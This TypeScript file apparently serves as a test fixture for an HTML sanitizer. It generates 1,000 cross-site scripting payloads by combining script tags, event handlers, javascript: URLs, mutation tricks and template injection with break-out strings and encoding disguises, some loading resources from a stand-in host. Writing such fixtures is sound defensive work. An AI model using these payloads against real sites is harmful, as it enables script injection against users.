/** Scripts and requests in disguise, as people who attack others write them: 1,000 combinations of what runs, how it breaks out, and how it hides. */

/** Where a payload that is run leaves its mark. A frame in the page marks the page. */
const hit = 'top.hit=1'
/** No request may go there. */
export const listener = 'http://listener.test'

const runs = [
  `<script>${hit}</script>`,
  `<script src="${listener}/x.js"></script>`,
  `<img src=x onerror=${hit}>`,
  `<img src="x" onerror="${hit}" />`,
  `<img srcset="${listener}/a.png 1x" onload=${hit}>`,
  `<svg onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${hit}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${hit}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=${hit} /></svg>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  `<math href="javascript:${hit}">x</math>`,
  `<details open ontoggle=${hit}>`,
  `<video><source onerror=${hit}></video>`,
  `<video autoplay onloadstart=${hit} src="${listener}/v"></video>`,
  `<audio src=x onerror=${hit}>`,
  `<input autofocus onfocus=${hit}>`,
  `<select autofocus onfocus=${hit}>`,
  `<body onload=${hit} onpageshow=${hit}>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<div style="animation:x 1s" onanimationstart=${hit}>x</div>`,
  `<div style="background:url(${listener}/s)">x</div>`,
  `<p tabindex=1 autofocus onfocus=${hit} contenteditable>x</p>`,
  `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
  `<iframe src="javascript:${hit}"></iframe>`,
  `<iframe src="${listener}/frame"></iframe>`,
  `<object data="javascript:${hit}"></object>`,
  `<object data="data:text/html,<script>${hit}</script>"></object>`,
  `<embed src="${listener}/x.swf">`,
  `<link rel=stylesheet href="${listener}/x.css">`,
  `<link rel=prefetch href="${listener}/p">`,
  `<base href="${listener}/">`,
  `<meta http-equiv=refresh content="0;url=${listener}/">`,
  `<style>@import '${listener}/i.css';</style>`,
  `<style>*{background:url(${listener}/b)}</style>`,
  `<form action="${listener}/f"><button autofocus formaction="javascript:${hit}">x</button></form>`,
  `<template shadowrootmode=open><script>${hit}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<a href="javascript:${hit}">x</a>`,
  `<a href="data:text/html,<script>${hit}</script>" ping="${listener}/ping">x</a>`,
  `[x](javascript:${hit})`,
  `[x][a]\n\n[a]: javascript:${hit}`,
  `<javascript:${hit}>`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `"];${hit};//`,
  `';${hit};'`,
]

const breaksOut = ['', '">', "'>", '--><', '</script>', '</style>', '</title>', '</textarea></select>', ']]>', '`>', '<!--', '\\">']

type Hide = (payload: string) => string
const hides: Hide[] = [
  (payload) => payload,
  (payload) => payload.replaceAll(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => payload.replaceAll(' ', '\t'),
  (payload) => payload.replaceAll('javascript:', 'jav\tascript:').replaceAll(' on', '\u000Con'),
  (payload) => payload.replaceAll('javascript:', '&#106;avascript&colon;').replaceAll('top.', '&#116;op.'),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '<\u0001').replaceAll('</', '</ '),
  (payload) => payload.replace('<', '<<').replace('>', ' >'),
  (payload) => payload.replaceAll('<', '%3C'),
]

const wanted = 1000

/** Every kind meets every disguise and every way out. Each begins with its number, so that no two are alike. */
export const payloads: readonly string[] = Array.from({ length: wanted }, (_, i) => {
  const round = Math.floor(i / runs.length)
  const [run = '', out = ''] = [runs[i % runs.length], breaksOut[round % breaksOut.length]]
  const hide = hides[(i + round) % hides.length] ?? String
  return `${i} ${out}${hide(run)}`
})
